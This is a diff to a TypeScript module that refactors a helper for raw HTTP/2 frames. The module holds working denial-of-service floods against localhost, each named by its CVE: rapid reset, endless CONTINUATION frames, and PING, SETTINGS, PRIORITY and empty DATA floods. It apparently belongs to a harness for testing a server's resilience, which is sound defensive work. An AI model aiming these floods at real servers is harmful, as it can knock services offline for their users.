@@ -4,6 +4,7 @@ import { setTimeout as delay } from 'node:timers/promises'
 import type { Attack } from './attack.ts'
 import { repeatFor } from './repeat-for.ts'
 
+const NOTHING: Buffer = Buffer.alloc(0)
 const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(4)])
 /** GET http://localhost/api/stream, by the static table and without compression (RFC 7541). */
 const HEAD = Buffer.concat([Buffer.from([0x82, 0x86]), literal(1, 'localhost'), literal(4, '/api/stream')])
@@ -11,8 +12,14 @@ const CANCEL = Buffer.from([0, 0, 0, 8])
 const FRAMES_AT_ONCE = 200
 const PAUSE_MS = 5
 
+interface FrameParts {
+  readonly flags?: number
+  readonly stream?: number
+  readonly payload?: Buffer
+}
+
 /** A frame (RFC 9113 §4.1). */
-function frame(type: number, flags = 0, stream = 0, payload: Buffer = Buffer.alloc(0)): Buffer {
+function frame(type: number, { flags = 0, stream = 0, payload = NOTHING }: FrameParts = {}): Buffer {
   const head = Buffer.alloc(9)
   head.writeUIntBE(payload.length, 0, 3)
   head.writeUInt8(type, 3)
@@ -37,16 +44,23 @@ function many(make: (index: number) => Buffer): Buffer {
 const FLOODS: Readonly<Record<string, Flood>> = {
   'rapid reset (CVE-2023-44487)': (turn) =>
     many((index) =>
-      Buffer.concat([frame(1, 5, streamOf(turn, index), HEAD), frame(3, 0, streamOf(turn, index), CANCEL)]),
+      Buffer.concat([
+        frame(1, { flags: 5, stream: streamOf(turn, index), payload: HEAD }),
+        frame(3, { stream: streamOf(turn, index), payload: CANCEL }),
+      ]),
     ),
   'CONTINUATION without end (CVE-2024-27983)': (turn) =>
-    turn === 0 ? frame(1, 1, 1, HEAD) : many(() => frame(9, 0, 1, literal(0, 'x'.repeat(100)))),
-  'PING flood (CVE-2019-9512)': () => many(() => frame(6, 0, 0, Buffer.alloc(8))),
+    turn === 0
+      ? frame(1, { flags: 1, stream: 1, payload: HEAD })
+      : many(() => frame(9, { stream: 1, payload: literal(0, 'x'.repeat(100)) })),
+  'PING flood (CVE-2019-9512)': () => many(() => frame(6, { payload: Buffer.alloc(8) })),
   'SETTINGS flood (CVE-2019-9515)': () => many(() => frame(4)),
-  'empty DATA frames (CVE-2019-9518)': (turn) => (turn === 0 ? frame(1, 4, 1, HEAD) : many(() => frame(0, 0, 1))),
-  'PRIORITY flood (CVE-2019-9513)': (turn) => many((index) => frame(2, 0, streamOf(turn, index), Buffer.alloc(5))),
+  'empty DATA frames (CVE-2019-9518)': (turn) =>
+    turn === 0 ? frame(1, { flags: 4, stream: 1, payload: HEAD }) : many(() => frame(0, { stream: 1 })),
+  'PRIORITY flood (CVE-2019-9513)': (turn) =>
+    many((index) => frame(2, { stream: streamOf(turn, index), payload: Buffer.alloc(5) })),
   'answers that nobody reads (CVE-2019-9517)': (turn) =>
-    turn === 0 ? many((index) => frame(1, 5, streamOf(0, index), HEAD)) : Buffer.alloc(0),
+    turn === 0 ? many((index) => frame(1, { flags: 5, stream: streamOf(0, index), payload: HEAD })) : Buffer.alloc(0),
 }
 
 /** Ten connections at a time, each of them until it is ended; then the next one. */
